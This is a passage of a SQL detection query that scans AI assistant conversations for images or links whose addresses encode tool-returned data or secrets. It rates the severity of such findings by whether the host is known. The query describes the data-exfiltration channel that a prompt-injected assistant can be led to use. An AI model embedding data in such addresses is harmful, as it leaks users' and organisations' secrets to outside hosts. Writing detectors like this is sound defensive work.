  WHERE m.role = 'assistant' AND m.kind = 'text'
),
links AS (
  SELECT *, lower(regexp_replace(regexp_replace(address, '^https?://', ''), '[/?#:].*', '')) AS host FROM found
),
carried AS (
  -- What stands encoded in the address is what a tool had returned.
  SELECT DISTINCT l.message_id, l.address
  FROM links l
  JOIN history_messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
  WHERE m.role = 'tool' AND shared_words(decoded(l.address), m.text, $run) > 0
),
familiar AS (
  SELECT DISTINCT l.host
  FROM links l
  JOIN call_destinations d ON d.novelty IN ('listed', 'known') AND ends_with('.' || l.host, '.' || d.destination)
),
known AS (
  -- An address that the user, the system prompt or a result showed whole was only passed on.
  SELECT DISTINCT l.message_id, l.address
  FROM links l
  JOIN history_messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
  WHERE m.role <> 'assistant' AND strpos(m.text, l.address) > 0
)
SELECT
  l.host AS subject,
  'An answer to ' || l.login || CASE WHEN l.image THEN ' shows an image' ELSE ' holds a link' END || ' whose address carries data: ' || left(l.address, $quote_chars)
    || CASE WHEN strpos(l.address, '‹') > 0 THEN '; it holds a secret' ELSE '' END
    || CASE WHEN c.message_id IS NOT NULL THEN '; decoded, it holds words that a tool had returned' ELSE '' END
    || CASE WHEN f.host IS NOT NULL THEN '; the organisation knows that host' ELSE '' END
    || CASE WHEN l.image THEN '; whoever displays it' ELSE '; whoever follows it' END || ' sends that data out.' AS reason,
  l.time AS first_seen,
  l.time AS last_seen,
  CAST(1 AS BIGINT) AS count,
  l.session_id,
  l.login,
  l.device,
  l.message_id || CASE WHEN l.image THEN '' ELSE ' link' END AS key,
  CASE WHEN f.host IS NOT NULL THEN 'low' ELSE 'high' END AS severity,
  CASE WHEN f.host IS NOT NULL THEN 'low' WHEN c.message_id IS NOT NULL OR strpos(l.address, '‹') > 0 THEN 'high' ELSE 'medium' END AS confidence,
  make_array(evidence(l.export_key, l.record_id)) AS evidence
FROM links l
LEFT JOIN carried c ON c.message_id = l.message_id AND c.address = l.address
LEFT JOIN familiar f ON f.host = l.host
LEFT JOIN known k ON k.message_id = l.message_id AND k.address = l.address
WHERE k.message_id IS NULL
  -- A link is not displayed by itself, and many carry long values; one that carries what was read is another thing.
  AND (l.image OR c.message_id IS NOT NULL)
ORDER BY l.session_id, l.position, l.part, l.message_id, l.image
